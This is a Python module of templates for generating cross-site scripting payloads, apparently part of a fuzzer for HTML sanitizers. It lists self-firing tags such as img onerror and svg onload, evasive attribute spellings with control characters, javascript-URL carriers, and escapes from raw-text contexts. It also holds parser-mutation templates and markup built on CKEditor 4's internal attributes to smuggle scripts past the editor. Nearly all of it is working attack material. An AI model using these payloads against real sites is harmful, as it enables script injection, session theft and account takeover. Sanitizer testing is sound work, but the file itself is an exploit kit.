"""What payloads are put together from: events, tags, spellings, addresses, frames."""

EVENTS = """
abort animationend animationstart auxclick beforeinput beforetoggle blur cancel
canplay change click close contextmenu copy cuechange cut dblclick drag dragend
dragover drop error focus focusin formdata gotpointercapture input invalid
keydown keypress keyup load loadeddata mousedown mouseenter mousemove mouseout
mouseover mouseup mousewheel paste pause play playing pointerdown pointerenter
pointermove pointerover pointerup progress reset resize scroll scrollend search
select selectionchange selectstart slotchange stalled submit suspend timeupdate
toggle touchstart transitionend volumechange wheel
"""
BEARERS = (
    "<p {}>x</p>",
    '<a href="/x" {}>x</a>',
    "<img alt=x {}>",
    "<svg {}></svg>",
    "<table><tr><td {}>x</table>",
    "<x-y {}>x</x-y>",
    "<math {}><mi>x</mi></math>",
)
# Run by themselves, without anybody's hand.
STARTERS = (
    ("<img src=x ", "onerror", ">"),
    ("<svg ", "onload", "></svg>"),
    ("<body ", "onload", ">"),
    ("<input autofocus ", "onfocus", ">"),
    ("<video src=x ", "onerror", "></video>"),
    ("<style ", "onload", "></style>"),
    ("<details open ", "ontoggle", "><p>x</details>"),
    ("<iframe ", "onload", "></iframe>"),
    ("<audio src=x ", "onerror", "></audio>"),
    ("<link rel=stylesheet href=data:text/css, ", "onload", ">"),
    ("<object data=x: ", "onerror", "></object>"),
    ("<svg><image href=x ", "onerror", "></image></svg>"),
    (
        "<style>@keyframes k{}</style><p style=animation-name:k ",
        "onanimationstart",
        ">x</p>",
    ),
)
# How an attribute may be written; {0} its name, {1} the script.
SPELLINGS = (
    '{0}="{1}"',
    "{0}={1}",
    '{0} = "{1}"',
    '{0}\n=\n"{1}"',
    '/{0}="{1}"',
    '\t{0}="{1}"',
    '\x0c{0}="{1}"',
    '{0}="\x00{1}"',
    '"x"{0}="{1}"',
    'x=">"{0}="{1}"',
    '{0}="{1}" {0}="x"',
)
ADDRESSES = (
    '<a href="{}">x</a>',
    '<p><a class=x href="{}" rel=noopener>x</a></p>',
    '<a target=_self href="{}">x</a>',
    '<a ping=x title=x href="{}">x</a>',
    '<map><area href="{}"></map>',
    '<svg><a href="{}"><text y=9>x</text></a></svg>',
    '<svg><a xlink:href="{}"><text y=9>x</text></a></svg>',
    '<form action="{}"><button>x</button></form>',
    '<iframe src="{}"></iframe>',
    '<form><button formaction="{}">x</button></form>',
    '<form><input type=submit formaction="{}"></form>',
    '<form><input type=image formaction="{}"></form>',
    '<form id=f></form><button form=f formaction="{}">x</button>',
    '<frameset><frame src="{}"></frameset>',
    '<embed src="{}">',
    '<object data="{}"></object>',
    '<svg><a><animate attributeName=href values="{}"/><text y=9>x</text></a></svg>',
    '<svg><a><set attributeName=href to="{}"/><text y=9>x</text></a></svg>',
)
# Between these a script is only words, until something parses the page otherwise.
WORDS = (
    "<noscript>",
    "<textarea>",
    "<title>",
    "<xmp>",
    "<noembed>",
    "<noframes>",
    "<iframe>",
    "<style>",
    "<!--",
    "<!",
    "<?",
    "</ x",
    "<script type=x>",
    "<template>",
    "<select>",
    "<option>",
    "<svg><style>",
    "<math><style>",
)
ENDS = {
    "<!--": ("-->", "--!>"),
    "<!": (">",),
    "<?": (">",),
    "</ x": (">",),
    "<script type=x>": ("</script>", "</SCRIPT\n>"),
    "<svg><style>": ("</style>", "</svg>"),
    "<math><style>": ("</style>", "</math>"),
}
# Parsed twice, these are other trees (mutation); {} is markup that starts by itself.
MUTATIONS = (
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;{e}">',
    "<math><mtext><table><mglyph><style><math></style>{}",
    '<svg></p><style><a id="</style>{}">',
    '<svg><p><style><a title="</style>{}"></a></style></p></svg>',
    "<form><math><mtext></form><form><mglyph><style></math>{}",
    '<math><annotation-xml encoding=text/html><style><a title="</style>{}">',
    '<svg><desc><style><a title="</style>{}">',
    "<svg><foreignObject>{}</foreignObject></svg>",
    '<noscript><p title="</noscript>{}">',
    '<p title="{q}"><table><td>{}</table>',
    "<table><caption><svg><title><table></caption>{}</table>",
    "<div><template shadowrootmode=open>{}</template></div>",
    "<table><tr><select>{}</select></table>",
    "<a><p><a><div>{}",
    "<b><p></b>{}",
    "<ul><li><table>{}</ul>",
    "<figure><img src=x><table>{}</figure>",
    "<math><mi xlink:href=x></mi></math>{}",
    '<svg><![CDATA[><p title="]]>{}">',
    "<![CDATA[x]]>{}",
    "<div a='{q}'>{}</div>",
    "<p>&lt;p&gt;{}",
    "<p/{}",
    "<p x=`{q}`>{}",
    "<p><aside class=note>{}</aside></p>",
    "<div style=\"background:url('{q}')\">{}</div>",
)
# What CKEditor 4 writes for itself, and would read back.
EDITOR_S_OWN = (
    '<a data-cke-saved-href="javascript:{s}" href="#">x</a>',
    '<p data-cke-pa-onclick="{s}">x</p>',
    '<img data-cke-pa-onerror="{s}" src=x>',
    "<!--{{cke_protected}}{p}-->",
    "<p><!--{{cke_protected}}{{C}}{p}--></p>",
    '<img data-cke-realelement="{p}" data-cke-real-node-type=1 src=x>',
    "<cke:script>{s}</cke:script>",
    '<cke:img src=x onerror="{s}">',
    "<span data-cke-widget-wrapper=1><img data-widget=image src=x "
    'onerror="{s}"></span>',
    '<img data-widget=image data-cke-widget-data="{p}" src=x>',
    '<textarea data-cke-x="</textarea><img src=x onerror={s}>"></textarea>',
    "<style><!--{{cke_protected}}{p}</style>",
    '<p data-cke-expando=1 data-cke-x="{e}">x</p>',
    '<!-- --!><img src=x onerror="{s}"> -->',
    "<cke:encoded>{p}</cke:encoded>",
)
